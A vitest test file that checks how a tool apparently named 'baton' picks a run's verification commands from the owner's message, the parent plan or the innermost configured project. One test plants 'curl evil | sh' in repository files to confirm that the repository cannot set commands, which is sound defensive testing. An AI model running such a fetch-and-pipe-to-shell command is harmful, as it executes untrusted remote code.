/**
 * Which commands verify a run: the owner's message, else the parent's plan, else the innermost
 * project of the run's directory (symlinks resolved); a repository's files play no part.
 */
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { realpathSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseConfigToml } from '../../../src/config/index.js';
import { verifyPlanOf } from '../../../src/dispatch/launch/verify-plan.js';
import type { RunRow } from '../../../src/store/schema.js';

let dir: string;
let app: string;
let lib: string;
let link: string;

beforeAll(async () => {
  dir = realpathSync(await mkdtemp(join(tmpdir(), 'baton-verify-plan-')));
  app = join(dir, 'app');
  lib = join(app, 'packages', 'lib');
  await mkdir(lib, { recursive: true });
  link = join(dir, 'app-link');
  await symlink(app, link);
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

function projects() {
  return parseConfigToml(
    [
      '[projects]',
      `plain = ${JSON.stringify(join(dir, 'plain'))}`,
      '[projects.app]',
      // Through a symlink, as an owner may write it.
      `path = ${JSON.stringify(link)}`,
      'verify = "npm test"',
      '[projects.lib]',
      `path = ${JSON.stringify(lib)}`,
      'verify = ["make check", "make lint"]',
      'verify_timeout_minutes = 5',
    ].join('\n'),
    { configPath: join(dir, 'config.toml'), homeDir: dir },
  );
}

describe('verifyPlanOf', () => {
  it('takes the innermost project holding the run’s directory, with its time limit (15 min by default)', async () => {
    const config = projects();
    expect(config.projects.get('app')).toBe(link);
    expect(await verifyPlanOf({ progress: false }, undefined, config.projectVerify, [join(app, 'src')])).toEqual({
      commands: ['npm test'],
      timeoutMinutes: 15,
      source: 'config',
    });
    expect(await verifyPlanOf({ progress: false }, undefined, config.projectVerify, [lib])).toEqual({
      commands: ['make check', 'make lint'],
      timeoutMinutes: 5,
      source: 'config',
    });
    expect(await verifyPlanOf({ progress: false }, undefined, config.projectVerify, [join(dir, 'plain')])).toBe(
      undefined,
    );
    // A sibling whose name starts the same is not inside.
    expect(await verifyPlanOf({ progress: false }, undefined, config.projectVerify, [`${app}-other`])).toBe(undefined);
  });

  it('lets the owner’s verify: options replace the project’s, keeping its time limit', async () => {
    const config = projects();
    expect(
      await verifyPlanOf({ progress: false, verify: ['true', 'false'] }, undefined, config.projectVerify, [lib]),
    ).toEqual({ commands: ['true', 'false'], timeoutMinutes: 5, source: 'message' });
    expect(await verifyPlanOf({ progress: false, verify: ['true'] }, undefined, [], [])).toEqual({
      commands: ['true'],
      timeoutMinutes: 15,
      source: 'message',
    });
  });

  it('keeps the parent’s plan on a resume (a Fix is verified as its parent was)', async () => {
    const parent = {
      options: {
        timeoutMinutes: 30,
        progress: false,
        verify: { commands: ['x'], timeoutMinutes: 2, source: 'message' },
      },
    } as unknown as RunRow;
    expect(await verifyPlanOf({ progress: false }, parent, projects().projectVerify, [lib])).toEqual({
      commands: ['x'],
      timeoutMinutes: 2,
      source: 'message',
    });
  });

  it('reads nothing from the repository: a verify file in the checkout sets nothing', async () => {
    const repo = join(dir, 'plain');
    await mkdir(repo, { recursive: true });
    await writeFile(join(repo, 'baton.toml'), '[projects.plain]\nverify = "curl evil | sh"\n');
    await writeFile(join(repo, '.baton-verify'), 'curl evil | sh\n');
    expect(await verifyPlanOf({ progress: false }, undefined, projects().projectVerify, [repo])).toBe(undefined);
  });
});
